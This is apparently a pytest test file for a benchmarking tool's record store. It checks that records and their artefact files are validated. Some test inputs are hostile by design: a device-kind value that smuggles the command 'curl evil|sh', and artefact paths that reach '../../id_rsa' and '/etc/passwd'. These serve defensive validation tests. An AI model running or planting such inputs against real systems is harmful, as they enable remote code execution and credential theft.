"""A record is read only where it lies in the place of its run, and its files lie beside it."""

from pathlib import Path

import pytest
import synthetic

from whichdevice.errors import StudyError
from whichdevice.records.schema import Artefact
from whichdevice.records.store import Refused, artefact_path, read_record, write_record
from whichdevice.study_runs import study_runs

STUDY = synthetic.small_study()
RUN, OTHER = study_runs(STUDY)[:2]


def test_a_record_in_the_place_of_another_run_is_not_read(tmp_path):
    path = tmp_path / "runs" / OTHER.path / "record.json"
    write_record(synthetic.record_of(STUDY, RUN), path)
    with pytest.raises(StudyError, match="says that it is of another run than its path; delete it to make it anew"):
        read_record(path)


def test_where_the_path_names_no_run_any_record_is_read(tmp_path):
    write_record(synthetic.record_of(STUDY, RUN), tmp_path / "record.json")
    assert read_record(tmp_path / "record.json").run == RUN.path


@pytest.mark.parametrize("kind", ["cpu; curl evil|sh", "CPU", ""])
def test_a_record_is_of_a_kind_of_device_that_there_is(tmp_path, kind):
    record = synthetic.record_of(STUDY, RUN)
    asked = record.asked.model_copy(update={"kind": kind})
    write_record(record.model_copy(update={"asked": asked}), tmp_path / "record.json")
    with pytest.raises(StudyError, match="is no kind of device"):
        read_record(tmp_path / "record.json")


@pytest.mark.parametrize("file", ["../../id_rsa", "/etc/passwd", "a/../../x", "cpu/w/torch-float32-b1/r1/record.json"])
def test_an_artefact_is_a_file_beside_its_record(tmp_path, file):
    record = synthetic.record_of(STUDY, RUN).model_copy(update={"artefacts": {"x": Artefact(file=file, sha256="0")}})
    write_record(record, tmp_path / "record.json")
    with pytest.raises(StudyError, match="artefact 'x' is no file beside the record"):
        read_record(tmp_path / "record.json")


def test_an_artefact_that_is_a_link_to_elsewhere_is_not_there(tmp_path):
    folder = tmp_path / "r1"
    folder.mkdir()
    (tmp_path / "secret").write_text("secret")
    (folder / "linked").symlink_to("../secret")
    (folder / "own").write_text("own")
    assert artefact_path(folder / "record.json", Artefact(file="own", sha256="0")) == folder / "own"
    assert artefact_path(folder / "record.json", Artefact(file="linked", sha256="0")) is None
    assert artefact_path(folder / "record.json", Artefact(file="gone", sha256="0")) is None


def test_what_stands_for_a_refused_one_says_why(tmp_path):
    path = tmp_path / "record.json"
    path.write_text(Refused(refused="cpu/w/c/r1: written by a newer version").model_dump_json())
    with pytest.raises(StudyError, match=r"record .*record.json was refused: cpu/w/c/r1: written by a newer version$"):
        read_record(path)


def test_a_record_that_may_not_be_read_is_named_like_any_other(tmp_path, monkeypatch):
    def forbidden(path):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "read_bytes", forbidden)
    with pytest.raises(StudyError, match=r"^cannot read record \S+: Permission denied$"):
        read_record(tmp_path / "record.json")
